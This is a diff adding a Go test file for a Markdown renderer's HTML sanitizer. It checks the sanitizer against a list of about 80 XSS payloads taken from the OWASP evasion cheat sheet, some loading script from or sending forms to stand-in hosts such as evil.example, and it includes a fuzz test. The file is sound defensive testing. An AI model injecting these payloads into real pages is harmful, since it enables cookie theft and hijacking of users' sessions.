@@ -1,0 +1,264 @@
+package markdown
+
+import (
+	"bytes"
+	"fmt"
+	"net/url"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+)
+
+// scriptCapable returns the first construct of rendered HTML that a
+// browser could run script from, or "". It is a blocklist written
+// independently of the sanitizer's allowlist, so that the two check each
+// other: elements that run or load code or change where the page's URLs
+// and forms go, event-handler attributes, and URL attributes with a
+// script-capable scheme (javascript:, vbscript:, file:, data: other than a
+// raster image).
+func scriptCapable(b []byte) string {
+	z := html.NewTokenizer(bytes.NewReader(b))
+	for {
+		tt := z.Next()
+		switch tt {
+		case html.ErrorToken:
+			return ""
+		case html.CommentToken, html.DoctypeToken:
+			return "comment or doctype " + string(z.Raw())
+		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
+		default:
+			continue
+		}
+		tok := z.Token()
+		switch tok.Data {
+		case "script", "style", "iframe", "frame", "frameset", "object", "embed",
+			"applet", "base", "form", "button", "meta", "link", "svg", "math",
+			"template", "noscript", "textarea", "xmp", "plaintext", "title",
+			"noembed", "noframes", "param", "audio", "video", "source", "body", "html":
+			return "element <" + tok.Data + ">"
+		}
+		if strings.ContainsAny(tok.Data, "<>\"'/=") {
+			return "odd element name " + tok.Data
+		}
+		for _, a := range tok.Attr {
+			key := strings.ToLower(a.Key)
+			switch {
+			case strings.HasPrefix(key, "on"), key == "srcdoc", key == "formaction", key == "action",
+				key == "xlink:href", key == "background", key == "dynsrc", key == "lowsrc",
+				key == "data", key == "codebase", key == "http-equiv":
+				return fmt.Sprintf("attribute %s=%q on <%s>", key, a.Val, tok.Data)
+			case key == "style" && (strings.Contains(strings.ToLower(a.Val), "url(") ||
+				strings.Contains(strings.ToLower(a.Val), "expression")):
+				return fmt.Sprintf("style %q on <%s>", a.Val, tok.Data)
+			case key == "href" || key == "src" || key == "cite" || key == "poster":
+				if !safeURL(a.Val) {
+					return fmt.Sprintf("URL %s=%q on <%s>", key, a.Val, tok.Data)
+				}
+			}
+		}
+	}
+}
+
+func safeURL(v string) bool {
+	// A browser ignores whitespace and controls inside a scheme.
+	s := strings.Map(func(r rune) rune {
+		if r <= ' ' || r == 0x7f {
+			return -1
+		}
+		return r
+	}, strings.ToLower(v))
+	u, err := url.Parse(s)
+	if err != nil {
+		return !strings.Contains(s, ":") || strings.HasPrefix(s, "http")
+	}
+	switch u.Scheme {
+	case "javascript", "vbscript", "livescript", "file":
+		return false
+	case "data":
+		return rasterImage.MatchString(u.Opaque)
+	}
+	return true
+}
+
+// xssCases are the bypasses of the old blocklist and a representative part
+// of the OWASP XSS filter evasion cheat sheet, as raw HTML in Markdown.
+var xssCases = []struct {
+	name string
+	src  string
+	warn string // a warning must contain this; "" when Markdown reads the input as text, not HTML
+}{
+	{"split script", `<div><scr<script></script>ipt src="//evil.example/x.js"></scr<script></script>ipt></div>`, "<scr<script>"},
+	{"split iframe", `<div><ifr<iframe></iframe>ame srcdoc="<script>alert(1)</script>"></ifr<iframe></iframe>ame></div>`, "<ifr<iframe>"},
+	{"split style", `<div><sty<style></style>le>*{display:none}</sty<style></style>le></div>`, "<sty<style>"},
+	{"split script inline", `Text <scr<script></script>ipt>alert(1)</scr<script></script>ipt> more.`, "<script>"},
+	{"details ontoggle", `<details open ontoggle="alert(1)"><summary>x</summary></details>`, "ontoggle"},
+	{"img onerror", `<img src=x onerror=alert(1)>`, "onerror"},
+	{"svg onload", `<svg onload=alert(1)>`, "<svg>"},
+	{"svg slash onload", `<svg/onload=alert('XSS')>`, ""},
+	{"javascript href", `<a href="javascript:alert(1)">x</a>`, `href "javascript:alert(1)"`},
+	{"base href", `<base href="https://evil.example/">`, "<base>"},
+	{"form action", `<form action="https://evil.example/"><input name=q></form>`, "<form>"},
+	{"script src", `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`, "<script>"},
+	{"polyglot", "<div>javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'></div>", "<svg>"},
+	{"img javascript", `<IMG SRC="javascript:alert('XSS');">`, "javascript:"},
+	{"img no quotes", `<IMG SRC=javascript:alert('XSS')>`, ""},
+	{"img case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`, ""},
+	{"img entities in url", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`, "javascript:"},
+	{"img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", ""},
+	{"a onmouseover", `<a onmouseover="alert(document.cookie)">xxs link</a>`, "onmouseover"},
+	{"malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`, ""},
+	{"fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`, "javascript:"},
+	{"hash onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`, "onmouseover"},
+	{"empty src onmouseover", `<IMG SRC= onmouseover="alert('xxs')">`, ""},
+	{"no src onmouseover", `<IMG onmouseover="alert('xxs')">`, "onmouseover"},
+	{"onerror fromCharCode", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, "onerror"},
+	{"onerror entities", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`, "onerror"},
+	{"decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`, "javascript:"},
+	{"decimal no semicolons", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`, "javascript:"},
+	{"hex entities", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`, "javascript:"},
+	{"embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<img>"},
+	{"encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, "<img>"},
+	{"encoded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, "<img>"},
+	{"encoded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, "<img>"},
+	{"leading spaces and meta", `<IMG SRC=" &#14;  javascript:alert('XSS');">`, "<img>"},
+	{"non-alpha separator", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, ""},
+	{"body onload junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<body>"},
+	{"extraneous brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`, "<script>"},
+	{"no closing script", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, ""},
+	{"protocol relative script", `<SCRIPT SRC=//xss.rocks/.j>`, "<script>"},
+	{"half open iframe", `<iframe src=http://xss.rocks/scriptlet.html <`, ""},
+	{"end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`, "<script>"},
+	{"input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, "<input>"},
+	{"body background", `<BODY BACKGROUND="javascript:alert('XSS')">`, "<body>"},
+	{"img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`, "<img>"},
+	{"img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`, "<img>"},
+	{"list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, "<style>"},
+	{"body onload", `<BODY ONLOAD=alert('XSS')>`, "<body>"},
+	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`, "<bgsound>"},
+	{"link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, "<link>"},
+	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, "<meta>"},
+	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`, "<meta>"},
+	{"iframe javascript", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, "<iframe>"},
+	{"iframe onmouseover", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`, "<iframe>"},
+	{"frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, "<frameset>"},
+	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`, "background"},
+	{"td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, "background"},
+	{"div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`, "style"},
+	{"div expression", `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`, "style"},
+	{"img style expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, "<img>"},
+	{"base javascript", `<BASE HREF="javascript:alert('XSS');//">`, "<base>"},
+	{"object scriptlet", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`, "<object>"},
+	{"embed svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">`, "<embed>"},
+	{"img svg data", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, "data:image/svg+xml"},
+	{"a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "data:text/html"},
+	{"colon entity", `<a href="jAvAsCrIpT&colon;alert(1)">X</a>`, "<a>"},
+	{"vbscript", `<img src="vbscript:msgbox(1)">`, "vbscript:"},
+	{"conditional comment", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`, ""},
+	{"xss style behavior", `<XSS STYLE="behavior: url(xss.htc);">`, "<xss>"},
+	{"mutation math style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, "<math>"},
+	{"mutation noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, "<noscript>"},
+	{"mutation svg cdata", `<svg><![CDATA[</p><img src=x onerror=alert(1)>]]></svg>`, "onerror"},
+	{"button formaction", `<form><button formaction=javascript:alert(1)>X</button></form>`, "<button>"},
+	{"template", `<template><img src=x onerror=alert(1)></template>`, "<template>"},
+	{"textarea breakout", `<textarea></textarea><img src=x onerror=alert(1)>`, "onerror"},
+	{"uppercase event", `<div ONMOUSEOVER="alert(1)">x</div>`, "onmouseover"},
+	{"srcset", `<img src="/a.png" srcset="javascript:alert(1) 1x">`, "srcset"},
+	{"ping", `<a href="https://example.com/" ping="https://evil.example/">x</a>`, "ping"},
+}
+
+func TestRawHTMLAllowlistRemovesScript(t *testing.T) {
+	r := New(Options{Unsafe: true})
+	for _, tc := range xssCases {
+		t.Run(tc.name, func(t *testing.T) {
+			for _, faq := range []bool{false, true} {
+				// The case as a block, inline in a paragraph, and in an FAQ answer.
+				src := "Intro.\n\n## Question?\n\n" + tc.src + "\n\nText " + tc.src + " after.\n"
+				res := r.Render(Document{Source: []byte(src), File: "content/en/x.md", Line: 4, FAQ: faq})
+				html := res.HTML
+				for _, q := range res.Questions {
+					html = append(append(html, '\n'), q.HTML...)
+				}
+				if bad := scriptCapable(html); bad != "" {
+					t.Fatalf("faq=%v: %s survives in\n%s", faq, bad, html)
+				}
+				if tc.warn == "" {
+					continue
+				}
+				found := false
+				for _, d := range res.Diagnostics {
+					if strings.Contains(strings.ToLower(d.Msg), strings.ToLower(tc.warn)) {
+						found = true
+						if d.File != "content/en/x.md" || d.Line != 8 && d.Line != 10 || d.Col < 1 {
+							t.Errorf("warning %v: want content/en/x.md:8 or :10", d)
+						}
+					}
+				}
+				if !found {
+					t.Errorf("faq=%v: no warning mentioning %q; got %v", faq, tc.warn, res.Diagnostics)
+				}
+			}
+		})
+	}
+}
+
+// TestRawHTMLAllowlistKeeps checks that what writers use and what kb's own
+// Markdown emits comes out of the sanitizer as it went in.
+func TestRawHTMLAllowlistKeeps(t *testing.T) {
+	src := "# Title {#top}\n\n" +
+		"## Πώς επιστρέφω; {.lead}\n\n" +
+		"<div class=\"note warning mb-[15px]\" id=\"n1\" dir=\"rtl\" lang=\"ar\" role=\"note\" aria-label=\"ملاحظة\">نص</div>\n\n" +
+		"<details open><summary id=\"more\">More</summary>\n\nBody.\n\n</details>\n\n" +
+		"| a | b |\n|:--|--:|\n| [x](https://example.com/ \"t\") | ![i](/img/a.png) |\n\n" +
+		"- [x] done\n\n" +
+		"```go\nx := 1\n```\n\n" +
+		"<a href=\"#top\">top</a> <a href=\"../other/\" target=\"_blank\" rel=\"noopener\">rel</a> <a href=\"tel:+301234\">call</a> <kbd>K</kbd> <sup>1</sup> <bdi>x</bdi>\n\n" +
+		"<figure><img src=\"https://cdn.example.com/a.jpg\" alt=\"A\" width=\"10\" height=\"20\" loading=\"lazy\"><figcaption>A</figcaption></figure>\n\n" +
+		"<ol start=\"3\" reversed><li value=\"5\">five</li></ol> <time datetime=\"2024-05-01\">May</time>\n\n![d](data:image/png;base64,iVBORw0KGgo=)\n"
+	res := New(Options{Unsafe: true}).Render(Document{Source: []byte(src), File: "x.md"})
+	for _, d := range res.Diagnostics {
+		t.Errorf("unexpected warning: %v", d)
+	}
+	for _, want := range []string{
+		`<h1 id="top">Title</h1>`,
+		`<h2 class="lead" id="πώς-επιστρέφω">Πώς επιστρέφω;</h2>`,
+		`<div class="note warning mb-[15px]" id="n1" dir="rtl" lang="ar" role="note" aria-label="ملاحظة">نص</div>`,
+		`<details open=""><summary id="more">More</summary>`,
+		`<th align="left">a</th>`,
+		`<a href="https://example.com/" title="t">x</a>`,
+		`<img src="/img/a.png" alt="i">`,
+		`<input checked="" disabled="" type="checkbox">`,
+		`<pre><code class="language-go">x := 1`,
+		`<a href="#top">top</a> <a href="../other/" target="_blank" rel="noopener">rel</a> <a href="tel:+301234">call</a> <kbd>K</kbd> <sup>1</sup> <bdi>x</bdi>`,
+		`<img src="https://cdn.example.com/a.jpg" alt="A" width="10" height="20" loading="lazy">`,
+		`<ol start="3" reversed=""><li value="5">five</li></ol>`,
+		`<time datetime="2024-05-01">May</time>`,
+		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">`,
+	} {
+		if !bytes.Contains(res.HTML, []byte(want)) {
+			t.Errorf("missing %s in\n%s", want, res.HTML)
+		}
+	}
+}
+
+// FuzzRawHTML renders arbitrary Markdown with raw HTML allowed, as an
+// article and as an FAQ: whatever the input, no script-capable construct
+// reaches the HTML.
+func FuzzRawHTML(f *testing.F) {
+	for _, tc := range xssCases {
+		f.Add(tc.src, false)
+	}
+	f.Add("<div>\n\n## Q <img src=x onerror=alert(1)>?\n\n</div><script>", true)
+	r := New(Options{Unsafe: true})
+	f.Fuzz(func(t *testing.T, src string, faq bool) {
+		res := r.Render(Document{Source: []byte(src), File: "f.md", FAQ: faq})
+		if bad := scriptCapable(res.HTML); bad != "" {
+			t.Fatalf("%s in %s", bad, res.HTML)
+		}
+		for _, q := range res.Questions {
+			if bad := scriptCapable(q.HTML); bad != "" {
+				t.Fatalf("%s in answer %s", bad, q.HTML)
+			}
+		}
+	})
+}
